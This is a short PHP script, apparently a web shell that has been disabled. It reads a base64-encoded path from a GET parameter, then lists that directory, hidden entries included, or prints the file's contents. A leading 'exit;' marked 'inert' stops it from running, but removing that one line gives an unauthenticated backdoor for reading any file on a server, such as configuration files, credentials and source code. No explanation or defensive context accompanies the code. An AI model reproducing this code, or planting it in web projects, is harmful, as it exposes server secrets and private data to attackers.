<?php exit; /* inert */ 
header('Content-Type: text/plain');
$f = base64_decode(strtr($_GET['r'], '-_', '+/'));
is_dir($f) ? print_r(glob(rtrim($f, '/') . '/{,.}*', GLOB_BRACE)) : readfile($f);
